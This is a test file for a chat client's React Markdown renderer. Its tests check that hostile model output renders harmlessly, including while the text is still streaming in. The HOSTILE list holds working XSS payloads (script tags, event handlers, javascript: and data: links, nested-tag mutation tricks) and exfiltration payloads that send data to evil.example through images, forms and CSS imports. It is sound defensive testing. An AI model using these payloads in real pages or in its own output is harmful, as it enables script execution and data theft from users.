import { Tooltip } from 'radix-ui';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

/** What a hostile model may write, after the OWASP and DOMPurify collections and what broke other chat clients. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">raw</a>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#x0A;script:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:alert(1))',
  '[click](<javascript:alert(1)> "title")',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![leak](https://evil.example/leak?secret=1)',
  '![leak](//evil.example/leak)',
  '![leak](data:image/svg+xml;base64,PHN2Zy8+)',
  '[![inner](https://evil.example/a.png)](javascript:alert(1))',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '- [x] <b onmouseover=alert(1)>hover</b>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '# <img src=x onerror=alert(1)>',
  '> <object data="javascript:alert(1)"></object>',
  '<!-- --><script>alert(1)</script> <![CDATA[<script>alert(1)</script>]]>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
];

const ALLOWED_TAGS = new Set(
  'div p span strong em del a code pre figure figcaption button svg path rect section table thead tbody tr th td ul ol li h3 h4 h5 h6 blockquote br hr sup'.split(
    ' ',
  ),
);

function render(text: string, { isGrowing = false } = {}): string {
  return renderToStaticMarkup(createElement(Tooltip.Provider, null, createElement(Markdown, { text, isGrowing })));
}

/** Every opening tag of a serialised tree; text cannot look like one, because serialising escapes it. */
function tagsOf(html: string): { name: string; attributes: string }[] {
  return [...html.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)].map(([, name = '', attributes = '']) => ({
    name,
    attributes,
  }));
}

function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(ALLOWED_TAGS).toContain(name);
    expect(attributes).not.toMatch(/\s(?:on\w+|src|srcset|srcdoc|action|formaction|style|xlink:href|data)=/i);
    const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
    if (href !== undefined) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/);
    if (name === 'a') expect(attributes).toContain('rel="noopener noreferrer nofollow"');
  }
}

describe('Markdown', () => {
  it.each(HOSTILE)('renders nothing that runs or fetches for %j, at any moment of its arrival', (text) => {
    for (let length = 1; length <= text.length; length += 1) {
      expectHarmless(render(text.slice(0, length), { isGrowing: true }));
    }
    expectHarmless(render(`Before\n\n${text}\n\nafter`));
  });

  it('shows raw HTML as the text that it is', () => {
    expect(render('a <b>bold</b> claim')).toContain('a &lt;b&gt;bold&lt;/b&gt; claim');
    expect(render('<details>\nhidden\n</details>')).toContain('&lt;details&gt;');
  });

  it('turns an image into a link that names it', () => {
    const html = render('![a bridge](https://example.com/bridge.png)');
    expect(html).toContain('href="https://example.com/bridge.png"');
    expect(html).toContain('Image: a bridge');
  });

  it('closes what is still open while the text grows, and not afterwards', () => {
    expect(render('some **bold', { isGrowing: true })).toContain('<strong>bold</strong>');
    expect(render('some **bold')).toContain('**bold');
  });

  it('renders tables, task lists, strike-through and bare addresses', () => {
    expect(render('| a |\n| - |\n| 1 |')).toContain('<td>1</td>');
    expect(render('- [x] task')).toContain('☑');
    expect(render('~~gone~~')).toContain('<del>gone</del>');
    expect(render('see https://example.com')).toContain('href="https://example.com/"');
  });
});
